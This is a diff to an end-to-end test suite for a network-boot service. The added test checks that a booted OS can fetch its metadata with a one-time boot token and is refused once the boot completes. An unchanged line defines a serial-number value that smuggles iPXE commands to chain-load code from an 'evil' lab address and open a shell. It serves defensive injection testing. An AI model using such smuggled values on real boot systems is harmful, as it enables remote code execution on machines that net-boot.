@@ -17,8 +17,10 @@ beside a foreign DHCP server in a second namespace.
 
 from __future__ import annotations
 
+import base64
 import json
 import re
+import secrets
 import time
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
@@ -31,6 +33,7 @@ from e2e_site import (
     BRIDGE,
     DEFAULT_PROFILE,
     GATEWAY,
+    LINUX_CMDLINE,
     LINUX_PROFILE,
     LOCAL_PROFILE,
     MANUFACTURER,
@@ -43,6 +46,7 @@ from e2e_site import (
     completion_for,
     console_cmdline,
     expected_facts,
+    http,
     ip_config,
     one_shot_boot,
     smbios_for,
@@ -67,6 +71,15 @@ LOCAL_BOOT_GRACE = 4.0
 #: expand another setting, run a second command, comment out the rest, and continue
 #: the line -- and a comma (written ",," on QEMU's command line).
 EVIL_SERIAL = "X${manufacturer}Y && chain http://10.213.0.66/evil || shell ; #,\\"
+
+#: A one-shot action whose initrd also reads the booted OS's documents (issue 7): the
+#: NoCloud meta-data and the JSON document, both under the per-boot
+#: ``IPXE_BOOT_METADATA_URL`` (which ends in ``/``).
+META_PROFILE = "lab-meta"
+META_CMDLINE = (
+    f"{LINUX_CMDLINE} bootbrain.meta=${{IPXE_BOOT_METADATA_URL}}meta-data"
+    " bootbrain.metajson=${IPXE_BOOT_METADATA_URL}metadata.json"
+)
 
 
 # --------------------------------------------------------------------------- the site
@@ -184,6 +197,18 @@ def boot_again_locally(
     assert "Linux version" not in result.text, result.describe()
 
 
+def ed25519_public_key(comment: str) -> str:
+    """An ``ssh-ed25519`` public key line in the wire format bootbrain's validator parses
+    (SSH string "ssh-ed25519", SSH string of 32 key bytes). The key bytes are random:
+    well formed, and nobody holds a private key for it."""
+
+    def ssh_string(data: bytes) -> bytes:
+        return len(data).to_bytes(4, "big") + data
+
+    blob = ssh_string(b"ssh-ed25519") + ssh_string(secrets.token_bytes(32))
+    return f"ssh-ed25519 {base64.b64encode(blob).decode()} {comment}"
+
+
 # --------------------------------------------------------------------------- tests
 
 
@@ -246,6 +271,74 @@ def test_uefi_full_dhcp_one_shot_linux(site: DnsmasqSite) -> None:
     )
     log = site.dhcp_log()
     assert re.search(r"sent \S+/snponly\.efi to 10\.213\.0\.51\b", log), log
+
+
+def test_booted_os_reads_its_metadata_with_the_boot_token(site: DnsmasqSite) -> None:
+    """Issue 7: the booted initrd fetches its meta-data and metadata.json with the token
+    iPXE put on its cmdline, reports the hostname and the SSH key in its completion call,
+    and once the boot has completed the same URLs are refused (403, recorded)."""
+    address, hostname = "10.213.0.55", "node-meta"
+    key = ed25519_public_key("test@lab")
+    site.add_linux_profile(META_PROFILE, META_CMDLINE)
+    shot = one_shot_boot(
+        site,
+        tag="META",
+        mode=lab.Mode.BIOS,
+        nic_model="e1000",
+        romfile=None,
+        uuid="4c4c4544-0042-3610-8052-b4c04f4e0006",
+        address=address,
+        hostname=hostname,
+        profile=META_PROFILE,
+        machine_fields={"ssh_keys": [key]},
+        # meta= is the first line of meta-data; the other two come from metadata.json.
+        report_extra=lambda machine: {
+            "meta": f"instance-id: bootbrain-machine-{machine['id']}",
+            "meta_hostname": hostname,
+            "ssh_key": key,
+        },
+    )
+    mid, boot_id = shot.machine["id"], shot.boot["data"]["boot_id"]
+    # The operator's view of the same documents agrees with what the guest reported.
+    config = site.api("GET", f"/machines/{mid}/config-preview?profile={META_PROFILE}")
+    assert config["meta_data"].splitlines()[0] == f"instance-id: bootbrain-machine-{mid}"
+    assert (config["metadata"]["hostname"], config["metadata"]["ssh_keys"]) == (hostname, [key])
+
+    # iPXE expanded both URLs to the completion URL's per-boot token.
+    cmdline = console_cmdline(shot.result)
+    done = re.search(rf"bootbrain\.done=({re.escape(site.base_url)}/boot/[A-Za-z0-9_-]+/)done\b",
+                     cmdline)  # fmt: skip
+    assert done, cmdline
+    urls = {name: done.group(1) + name for name in ("meta-data", "metadata.json")}
+    assert f"bootbrain.meta={urls['meta-data']}" in cmdline.split(), cmdline
+    assert f"bootbrain.metajson={urls['metadata.json']}" in cmdline.split(), cmdline
+    text = shot.result.text
+    assert f"BOOTBRAIN-LAB: meta instance-id: bootbrain-machine-{mid}" in text, text
+    assert f"BOOTBRAIN-LAB: metajson hostname={hostname}" in text, text
+    assert f"BOOTBRAIN-LAB: metajson ssh_key={key}" in text, text
+
+    # Each document was released once, to this boot, at the guest's static address.
+    served = site.wait_events("two metadata events", count=2, kind="metadata", machine_id=mid)
+    assert sorted(e["data"]["document"] for e in served) == ["meta-data", "metadata.json"], served
+    for event in served:
+        assert (event["data"]["boot_id"], event["ip"]) == (boot_id, address), event
+
+    # The completion revoked the token: the same URLs, fetched again, are refused.
+    for url in urls.values():
+        status, body = site.net.call(http, "GET", url, None, {}, 10.0)
+        assert status == 403, (url, status, body)
+        for secret in (key.split()[1], hostname, address):
+            assert secret.encode() not in body, (url, body)
+    refused = site.wait_events(
+        "two metadata_refused events", count=2, kind="metadata_refused", machine_id=mid
+    )
+    assert sorted(e["data"]["document"] for e in refused) == ["meta-data", "metadata.json"]
+    for event in refused:
+        assert event["data"]["boot_id"] == boot_id, event
+        assert "completed" in event["data"]["reason"], event
+        assert event["ip"] == site.net.address, event  # the test process, not the guest
+    # Nothing more was released.
+    assert len(site.events(kind="metadata", machine_id=mid)) == 2
 
 
 def test_unknown_machine_gets_the_default(site: DnsmasqSite) -> None:
